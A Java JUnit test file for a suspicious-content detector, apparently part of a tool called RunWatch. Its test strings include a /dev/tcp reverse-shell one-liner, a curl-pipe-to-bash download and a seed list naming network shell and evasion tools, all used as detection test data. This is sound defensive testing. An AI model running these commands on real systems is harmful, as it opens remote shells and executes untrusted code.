package io.runwatch.core.detect.scope;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.core.json.JsonReadFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import io.runwatch.core.detect.Severity;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;

/** The shipped suspicious-content patterns, their examples and the loader's validation. */
class SuspiciousContentPatternsTest {
  private static final ContentPatterns SHIPPED = ContentPatterns.shipped();
  private static final String EXAMPLES = "/detectors/RW-SUSPICIOUS-CONTENT/pattern-examples.jsonc";

  @Test
  void shippedPatternsCoverEveryCategoryWithUniqueIds() {
    assertThat(SHIPPED.patterns()).extracting(ContentPattern::id).doesNotHaveDuplicates();
    Set<ContentCategory> seen = EnumSet.noneOf(ContentCategory.class);
    SHIPPED.patterns().forEach(p -> seen.add(p.category()));
    assertThat(seen).containsExactlyInAnyOrder(ContentCategory.values());
  }

  @Test
  void reverseShellsAndCredentialAccessAreCritical() {
    for (ContentPattern p : SHIPPED.patterns()) {
      if (p.category() == ContentCategory.REVERSE_SHELL
          || p.category() == ContentCategory.CREDENTIAL_ACCESS) {
        assertThat(p.severity()).as(p.id()).isEqualTo(Severity.CRITICAL);
      } else {
        assertThat(p.severity()).as(p.id()).isIn(Severity.HIGH, Severity.CRITICAL);
      }
    }
  }

  @Test
  void everyPatternCitesAPublicSourceAndDescribesItself() {
    for (ContentPattern p : SHIPPED.patterns()) {
      assertThat(p.description()).as(p.id()).isNotBlank();
      assertThat(p.sources())
          .as("%s sources", p.id())
          .isNotEmpty()
          .allMatch(
              s -> s.startsWith("https://") || s.matches("[\\w.-]+/[\\w.-]+@[0-9a-f]{40}:\\S+.*"),
              "a URL or owner/repo@commit:path");
    }
  }

  @Test
  void everyPatternHasAPositiveAndANegativeExample() {
    JsonNode examples = examples();
    List<String> problems = new ArrayList<>();
    for (ContentPattern p : SHIPPED.patterns()) {
      JsonNode e = examples.get(p.id());
      if (e == null || !e.path("positive").isArray() || e.path("positive").isEmpty()) {
        problems.add(p.id() + " has no positive example");
      }
      if (e == null || !e.path("negative").isArray() || e.path("negative").isEmpty()) {
        problems.add(p.id() + " has no negative example");
      }
    }
    for (Map.Entry<String, JsonNode> e : examples.properties()) {
      if (!e.getKey().startsWith("$")
          && SHIPPED.patterns().stream().noneMatch(p -> p.id().equals(e.getKey()))) {
        problems.add("examples name an unknown pattern " + e.getKey());
      }
    }
    assertThat(problems).isEmpty();
  }

  @TestFactory
  Stream<DynamicTest> examplesMatchAsDeclared() {
    List<DynamicTest> tests = new ArrayList<>();
    for (Map.Entry<String, JsonNode> entry : examples().properties()) {
      String id = entry.getKey();
      if (id.startsWith("$")) {
        continue;
      }
      for (JsonNode example : entry.getValue().path("positive")) {
        String text = example.asText();
        tests.add(
            dynamicTest(
                id + " matches " + text,
                () -> assertThat(ids(SHIPPED.scan(text))).as(text).contains(id)));
      }
      for (JsonNode example : entry.getValue().path("negative")) {
        String text = example.asText();
        tests.add(
            dynamicTest(
                id + " ignores " + text,
                () -> assertThat(ids(SHIPPED.scan(text))).as(text).doesNotContain(id)));
      }
    }
    return tests.stream();
  }

  @Test
  void scansOnlyTheFirst64KiBOfAText() {
    String shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
    String early = "#".repeat(ContentPatterns.MAX_SCAN_CHARS - shell.length() - 1) + "\n" + shell;
    String late = "#".repeat(ContentPatterns.MAX_SCAN_CHARS) + "\n" + shell;

    assertThat(ids(SHIPPED.scan(early))).contains("interactive-shell-dev-tcp");
    assertThat(ids(SHIPPED.scan(late))).isEmpty();
  }

  @Test
  void excerptsAreOneCleanLineOfAtMost200CharactersWithSecretsMasked() {
    String script =
        "set -e\n"
            + "x".repeat(300)
            + " curl -H 'Authorization: Bearer abc123secret' http://203.0.113.9/s.sh | bash "
            + "y".repeat(300)
            + "\nexit 0";

    ContentMatch m =
        SHIPPED.scan(script).stream()
            .filter(x -> x.pattern().id().equals("curl-wget-pipe-shell"))
            .findFirst()
            .orElseThrow();

    assertThat(m.excerpt()).hasSizeLessThanOrEqualTo(ContentPatterns.MAX_EXCERPT);
    assertThat(m.excerpt()).startsWith("…").contains("curl").doesNotContain("\n", "abc123secret");
  }

  @Test
  void nothingToScanFindsNothing() {
    assertThat(SHIPPED.scan(null)).isEmpty();
    assertThat(SHIPPED.scan("")).isEmpty();
    assertThat(SHIPPED.scan("yum -y update && systemctl restart httpd")).isEmpty();
  }

  /**
   * Inputs built to make a backtracking matcher work hard, 100 KB each on one line: every positive
   * example minus its last character, repeated (a near miss at every step), against its own
   * pattern; and long runs of the patterns' favourite characters and prefixes against them all. The
   * bounded spans and the 64 KiB scan limit keep each scan short; this only checks that every scan
   * comes back (the timeout is a hang guard, not a performance assertion).
   */
  @Test
  @Timeout(value = 120, unit = TimeUnit.SECONDS)
  void adversarialInputsOf100KbComeBack() {
    JsonNode examples = examples();
    for (ContentPattern p : SHIPPED.patterns()) {
      ContentPatterns alone = ContentPatterns.of(List.of(p));
      for (JsonNode positive : examples.path(p.id()).path("positive")) {
        String seed = positive.asText();
        String hostile = hostile(seed.substring(0, seed.length() - 1));
        assertThat(alone.scan(hostile)).as("%s near-misses", p.id()).isNotNull();
      }
    }
    for (String seed :
        List.of(
            "a",
            " ",
            "|",
            ">",
            "/",
            "/dev/tcp/",
            "curl ",
            "socat ",
            "systemctl stop ",
            "nc -",
            "base64 -d ",
            "iex (",
            "powershell ",
            "socket.socket(",
            "auditctl ",
            "net user ")) {
      assertThat(SHIPPED.scan(hostile(seed))).as(seed).isNotNull();
    }
  }

  private static String hostile(String stem) {
    String s = stem.repeat(100_000 / stem.length() + 1);
    assertThat(s.length()).isGreaterThanOrEqualTo(100_000);
    return s;
  }

  @Test
  void rejectsAnUnknownCategory() {
    assertThatThrownBy(() -> parse(pattern("p-1", "lateral-movement", "HIGH", "x", "[\"s\"]")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("p-1")
        .hasMessageContaining("category");
  }

  @Test
  void rejectsASeverityBelowTheCategoryFloor() {
    assertThatThrownBy(() -> parse(pattern("p-1", "reverse-shell", "HIGH", "x", "[\"s\"]")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("below");
  }

  @Test
  void rejectsARegexThatDoesNotCompileOrMatchesEmpty() {
    assertThatThrownBy(() -> parse(pattern("p-1", "defense-evasion", "HIGH", "(", "[\"s\"]")))
        .hasMessageContaining("does not compile");
    assertThatThrownBy(() -> parse(pattern("p-1", "defense-evasion", "HIGH", "x?", "[\"s\"]")))
        .hasMessageContaining("empty string");
  }

  @Test
  void rejectsMissingSourcesDuplicatesAndUnknownFields() {
    assertThatThrownBy(() -> parse(pattern("p-1", "defense-evasion", "HIGH", "x", "[]")))
        .hasMessageContaining("sources");
    String one = pattern("p-1", "defense-evasion", "HIGH", "x", "[\"s\"]");
    String twice = one.substring(0, one.length() - 1) + "," + one.substring(1);
    assertThatThrownBy(() -> parse(twice)).hasMessageContaining("duplicate pattern id p-1");
    String extra = one.replace("\"description\"", "\"note\":\"n\",\"description\"");
    assertThatThrownBy(() -> parse(extra)).hasMessageContaining("unknown field note");
    assertThat(parse(one).patterns()).extracting(ContentPattern::id).containsExactly("p-1");
  }

  private static ContentPatterns parse(String json) {
    return ContentPatterns.parse(
        new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)), "test");
  }

  private static String pattern(
      String id, String category, String severity, String regex, String sources) {
    return "[{\"id\":\""
        + id
        + "\",\"category\":\""
        + category
        + "\",\"severity\":\""
        + severity
        + "\",\"regex\":\""
        + regex
        + "\",\"description\":\"d\",\"sources\":"
        + sources
        + "}]";
  }

  private static List<String> ids(List<ContentMatch> matches) {
    return matches.stream().map(m -> m.pattern().id()).toList();
  }

  private static JsonNode examples() {
    JsonMapper mapper = JsonMapper.builder().enable(JsonReadFeature.ALLOW_JAVA_COMMENTS).build();
    try (InputStream in = SuspiciousContentPatternsTest.class.getResourceAsStream(EXAMPLES)) {
      assertThat(in).as(EXAMPLES).isNotNull();
      return mapper.readTree(in);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
